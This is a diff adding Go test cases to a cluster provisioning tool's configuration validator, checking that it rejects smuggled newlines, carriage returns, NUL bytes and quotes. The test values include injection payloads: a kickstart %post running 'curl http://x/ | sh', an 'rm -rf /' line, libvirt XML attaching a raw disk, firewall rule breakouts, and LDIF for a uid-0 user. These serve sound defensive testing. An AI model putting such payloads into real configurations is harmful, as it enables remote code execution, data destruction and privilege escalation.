@@ -36,6 +36,8 @@ func expect(t *testing.T, got []diag.Diagnostic, wants ...want) {
 	sitetest.Expect(t, got, wants...)
 }
 
+func lines(s string) int { return strings.Count(s, "\n") }
+
 func TestBaseSiteIsValid(t *testing.T) {
 	for _, d := range problems(t, siteFS(nil)) {
 		t.Errorf("%s", d)
@@ -257,6 +259,53 @@ func TestSiteMistakes(t *testing.T) {
 			{Pos: "site/site.yaml:2", What: []string{"this is not valid YAML", "did not find expected ',' or ']'"}, Fix: []string{"indentation and quoting"}},
 		},
 	}, {
+		name: "a newline in a time zone would add a %post to the kickstart",
+		site: func(t *testing.T) string {
+			return edit(t, "base: {timezone: Europe/Paris}", `base: {timezone: "UTC\n%post\ncurl http://x/ | sh\n%end"}`)
+		},
+		want: []want{
+			{Pos: "site/site.yaml:16:20", Where: "site parameters: base.timezone", What: []string{"string value", "holds a newline (at character 4)"}, Fix: []string{"one line", "time zone"}},
+		},
+	}, {
+		name: "a carriage return in the puppet environment",
+		site: func(t *testing.T) string {
+			return edit(t, "worker: {count: 3, start: {private: 10.1.0.101},", `worker: {count: 3, parameters: {puppet_agent: {environment: "production\rserver = evil"}}, start: {private: 10.1.0.101},`)
+		},
+		want: []want{
+			{Pos: "site/site.yaml:14:63", Where: "role worker: puppet_agent.environment", What: []string{"holds a carriage return"}, Fix: []string{"one line"}},
+		},
+	}, {
+		name: "a newline in one repository of a list",
+		site: func(t *testing.T) string {
+			return edit(t, "base: {timezone: Europe/Paris}", `base: {repositories: ["http://mirror/", "http://x/\nKILN_EOF\nrm -rf /"]}`)
+		},
+		want: []want{
+			{Pos: "site/site.yaml:16:43", Where: "site parameters: base.repositories", What: []string{"holds a newline"}},
+		},
+	}, {
+		name: "an image folder that would add a disk, an interface that would open the forward chain",
+		site: func(t *testing.T) string {
+			return edit(t, "base: {timezone: Europe/Paris}", `{vm_host: {image_dir: "/var/lib/x'/><disk type='block'><source dev='/dev/sda'/></disk><x a='"}, gateway: {public_interface: 'eth1" accept; }'}}`)
+		},
+		want: []want{
+			{Pos: "site/site.yaml:16:25", Where: "site parameters: vm_host.image_dir", What: []string{"the path", "which kiln does not put in paths"}, Fix: []string{"no spaces, quotes"}},
+			{Pos: "site/site.yaml:16:127", Where: "site parameters: gateway.public_interface", What: []string{"is not a network interface name"}, Fix: []string{"eth0"}},
+		},
+	}, {
+		name: "control characters in a user's fields would add LDIF entries",
+		site: func(t *testing.T) string {
+			return baseSite + "groups:\n  - {name: g, gid: 5000, doc: \"ok\\ndn: cn=x\"}\nusers:\n" +
+				"  - {name: bob, uid: 5001, group: g, shell: \"/bin/bash\\n\\ndn: uid=evil,ou=People,dc=x\\nuidNumber: 0\", full_name: \"Bob\\u0000\", home: \"/home/bob\\r\",\n" +
+				"     ssh_keys: [\"ssh-ed25519 AAAA bob\\ncommand=\\\"sh\\\" ssh-ed25519 AAAA\"]}\n"
+		},
+		want: []want{
+			{Pos: fmt.Sprintf("site/site.yaml:%d:26", lines(baseSite)+2), Where: "group g", What: []string{"the description", "a newline"}, Fix: []string{"one line"}},
+			{Pos: fmt.Sprintf("site/site.yaml:%d:45", lines(baseSite)+4), Where: "user bob", What: []string{"the shell", "a newline"}, Fix: []string{"LDIF"}},
+			{Pos: fmt.Sprintf("site/site.yaml:%d:114", lines(baseSite)+4), Where: "user bob", What: []string{"the full name", "a NUL byte"}},
+			{Pos: fmt.Sprintf("site/site.yaml:%d:133", lines(baseSite)+4), Where: "user bob", What: []string{"the home folder", "a carriage return"}},
+			{Pos: fmt.Sprintf("site/site.yaml:%d:17", lines(baseSite)+5), Where: "user bob", What: []string{"the SSH key", "a newline"}},
+		},
+	}, {
 		name: "every problem at once",
 		site: func(t *testing.T) string {
 			s := edit(t, "cluster: small", "cluster: small_1")
@@ -299,6 +348,22 @@ modules:
 `},
 		want: []want{
 			{Pos: "site/roles/proxy.yaml:2:7", Where: "role proxy", What: []string{`the vm's host role "haed" does not exist`}, Fix: []string{`did you mean "head"?`}},
+		},
+	}, {
+		name: "an interface name that would open the firewall, a disk layout with a NUL",
+		files: map[string]string{"roles/proxy.yaml": `kind: vm
+host: head
+vm: {vcpus: 1, memory: 2048, disk: 40}
+naming: proxy
+disk: "part / --grow\n\u0000"
+interfaces:
+  - {nic: "eth0\" accept; }", network: private}
+modules:
+  base: {}
+`},
+		want: []want{
+			{Pos: "site/roles/proxy.yaml:5:1", Where: "role proxy", What: []string{"the disk layout holds a NUL byte"}, Fix: []string{"plain newline"}},
+			{Pos: "site/roles/proxy.yaml:7:11", Where: "role proxy", What: []string{`"eth0\" accept; }" is not a network interface name`}, Fix: []string{"15 letters", "enp1s0"}},
 		},
 	}, {
 		name: "vm on a vm",
